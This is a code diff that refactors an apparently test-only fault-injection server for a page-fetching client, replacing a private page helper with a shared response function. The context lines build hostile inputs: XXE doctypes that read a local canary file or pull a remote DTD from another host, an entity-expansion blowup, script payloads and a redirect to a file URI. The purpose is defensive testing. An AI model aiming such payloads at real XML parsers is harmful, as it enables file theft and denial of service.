@@ -23,6 +23,7 @@ answers it gives per article, image and listing page, so transient faults are de
 
 from __future__ import annotations
 
+import dataclasses
 import email.utils
 import functools
 import gzip
@@ -34,7 +35,7 @@ from pathlib import Path
 
 from . import images
 from .pages import Link, escape_attr, escape_text
-from .wire import XML_CONTENT_TYPE, Response, Wire, redirect, status_page
+from .wire import XML_CONTENT_TYPE, Response, Wire, redirect, status_page, xml_response
 
 NETWORK = "network"
 HOSTILE = "hostile"
@@ -298,7 +299,7 @@ def evil_dtd(host: str) -> Response:
 def image_response(attempt: int, good: Response) -> Response:
     """The flaky image: reset mid-body for the first answers."""
     if attempt <= FAULTS["flaky_image"].failures:
-        return Response(good.status, good.headers, good.body, wire=Wire(cut_after=len(good.body) // 2, reset=True))
+        return dataclasses.replace(good, wire=Wire(cut_after=len(good.body) // 2, reset=True))
     return good
 
 
@@ -308,8 +309,7 @@ def listing_response(plan: FaultPlan, number: int, attempt: int, good: Response)
         return good
     if number == 1:
         return status_page(503, [("Retry-After", "1")])
-    return Response(good.status, good.headers, good.body,
-                    wire=Wire(cut_after=len(good.body) // 2, reset=number == 2))
+    return dataclasses.replace(good, wire=Wire(cut_after=len(good.body) // 2, reset=number == 2))
 
 
 def listing_links(plan: FaultPlan, section: str, number: int, visit: int, host: str,
@@ -334,7 +334,7 @@ def article_response(plan: FaultPlan, name: str, xml: str, attempt: int, query: 
     """The page of the article carrying fault ``name``, on its ``attempt``-th request."""
     fault = FAULTS[name]
     if fault.failures and attempt > fault.failures:
-        return _page(xml)
+        return xml_response(xml)
     canary = Path(plan.canary_path).as_uri()
     match name:
         case "http_500" | "http_502" | "http_503" | "http_429" | "http_503_forever":
@@ -347,11 +347,11 @@ def article_response(plan: FaultPlan, name: str, xml: str, attempt: int, query: 
             return status_page(503, [("Retry-After", str(HUGE_RETRY_AFTER))])
         case "reset_mid_body" | "short_body":
             data = xml.encode()
-            return _page(xml, wire=Wire(cut_after=len(data) // 2, reset=name == "reset_mid_body"))
+            return xml_response(xml, wire=Wire(cut_after=len(data) // 2, reset=name == "reset_mid_body"))
         case "stall_once":
-            return _page(xml, delay=plan.stall_seconds)
+            return xml_response(xml, delay=plan.stall_seconds)
         case "trickle":
-            return _page(xml, wire=Wire(trickle=(len(xml.encode()) // 20 + 1, 0.04)))
+            return xml_response(xml, wire=Wire(trickle=(len(xml.encode()) // 20 + 1, 0.04)))
         case "gzip":
             return Response(200, [("Content-Type", XML_CONTENT_TYPE), ("Content-Encoding", "gzip")],
                             gzip.compress(xml.encode()))
@@ -363,7 +363,7 @@ def article_response(plan: FaultPlan, name: str, xml: str, attempt: int, query: 
             hop = _number(query, "hop")
             if hop < len(_REDIRECT_CHAIN):
                 return redirect(_REDIRECT_CHAIN[hop], f"{path}?hop={hop + 1}")
-            return _page(xml)
+            return xml_response(xml)
         case "redirect_loop":
             return redirect(302, f"{path}?loop={_number(query, 'loop') % 2 + 1}")
         case "redirect_endless":
@@ -373,56 +373,53 @@ def article_response(plan: FaultPlan, name: str, xml: str, attempt: int, query: 
         case "redirect_to_file":
             return redirect(302, canary)
         case "wrong_content_type":
-            return _page(xml, content_type="image/jpeg")
+            return xml_response(xml, content_type="image/jpeg")
         case "wrong_charset":
-            return _page(xml, content_type="text/html; charset=iso-8859-1")
+            return xml_response(xml, content_type="text/html; charset=iso-8859-1")
         case "utf16_page":
             return Response(200, [("Content-Type", XML_CONTENT_TYPE)], _utf16(xml))
         case "xxe_external_dtd":
-            return _page(_with_doctype(xml, f'<!DOCTYPE html SYSTEM "{canary}">', "&ext;"))
+            return xml_response(with_doctype(xml, f'<!DOCTYPE html SYSTEM "{canary}">', "&ext;"))
         case "xxe_parameter_entity":
             doctype = (f'<!DOCTYPE html [\n<!ENTITY % file SYSTEM "{canary}">\n'
                        f'<!ENTITY % remote SYSTEM "http://{other_host}{EVIL_DTD_PATH}">\n%remote;\n]>')
-            return _page(_with_doctype(xml, doctype, "&send;"))
+            return xml_response(with_doctype(xml, doctype, "&send;"))
         case "xxe_utf16":
             doctype = f'<!DOCTYPE html [<!ENTITY xxe SYSTEM "{canary}">]>'
-            return Response(200, [("Content-Type", XML_CONTENT_TYPE)], _utf16(_with_doctype(xml, doctype, "&xxe;")))
+            return Response(200, [("Content-Type", XML_CONTENT_TYPE)], _utf16(with_doctype(xml, doctype, "&xxe;")))
         case "xxe_in_body":
             entity = f'<!DOCTYPE html [<!ENTITY inbody SYSTEM "{canary}">]><p>&inbody;</p>'
-            return _page(xml.replace("<![CDATA[", "<![CDATA[" + entity, 1))
+            return xml_response(xml.replace("<![CDATA[", "<![CDATA[" + entity, 1))
         case "quadratic_blowup":
             doctype = f'<!DOCTYPE html [<!ENTITY a "{"A" * 50_000}">]>'
-            return _page(_with_doctype(xml, doctype, "&a;" * 10_000))
+            return xml_response(with_doctype(xml, doctype, "&a;" * 10_000))
         case "huge_page":
             filler_item = "<i>" + "filler " * 12 + "</i>"
             filler = f'<div id="filler">{filler_item * (HUGE_PAGE_BYTES // len(filler_item))}</div>\n\t\t'
-            return _page(_after_article(xml, filler))
+            return xml_response(_after_article(xml, filler))
         case "oversized_page" | "oversized_stream":
-            return _page(xml, wire=Wire(filler=OVERSIZED_BYTES, chunked=name == "oversized_stream"))
+            return xml_response(xml, wire=Wire(filler=OVERSIZED_BYTES, chunked=name == "oversized_stream"))
         case "deep_nesting":
             nested_body = "<div>" * NESTING_DEPTH + "<p>Deep inside.</p>" + "</div>" * NESTING_DEPTH
             nested_page = "<div>" * NESTING_DEPTH + "</div>" * NESTING_DEPTH + "\n\t\t"
-            return _page(_after_article(_end_of_body(xml, nested_body), nested_page))
+            return xml_response(_after_article(_end_of_body(xml, nested_body), nested_page))
         case "script_in_body":
-            return _page(_end_of_body(xml, "".join(SCRIPT_PAYLOADS)))
+            return xml_response(_end_of_body(xml, "".join(SCRIPT_PAYLOADS)))
         case "dangerous_urls":
-            return _page(_dangerous(xml, canary))
+            return xml_response(_dangerous(xml, canary))
         case "escaping_images":
             figures = "".join(f'<p><img src="{escape_attr(url)}" /></p>'
                               for url in plan.escaping_image_urls(host, other_host))
-            return _page(_end_of_body(xml, figures))
+            return xml_response(_end_of_body(xml, figures))
         case "control_chars":
-            return _page(_control_chars(xml))
+            return xml_response(_control_chars(xml))
         case "invalid_utf8":
             return Response(200, [("Content-Type", XML_CONTENT_TYPE)], _invalid_utf8(xml))
         case "meta_refresh":
             refresh = f'<meta http-equiv="refresh" content="0; url=http://{other_host}{path}">'
-            return _page(xml.replace("<![CDATA[", "<![CDATA[" + refresh, 1), content_type="text/html; charset=utf-8")
-    return _page(xml)
-
-
-def _page(xml: str, *, content_type: str = XML_CONTENT_TYPE, delay: float = 0.0, wire: Wire = Wire()) -> Response:
-    return Response(200, [("Content-Type", content_type)], xml.encode(), delay=delay, wire=wire)
+            return xml_response(xml.replace("<![CDATA[", "<![CDATA[" + refresh, 1),
+                                content_type="text/html; charset=utf-8")
+    return xml_response(xml)
 
 
 def _number(query: dict[str, list[str]], name: str) -> int:
@@ -434,7 +431,7 @@ def _utf16(xml: str) -> bytes:
     return xml.replace('encoding="utf-8"', 'encoding="utf-16"', 1).encode("utf-16")
 
 
-def _with_doctype(xml: str, doctype: str, h5: str) -> str:
+def with_doctype(xml: str, doctype: str, h5: str) -> str:
     """Put ``doctype`` before ``<html`` and ``h5`` (entity references) in the empty byline."""
     return xml.replace("<h5 />", f"<h5>{h5}</h5>", 1).replace("<html ", f"{doctype}\n<html ", 1)
 
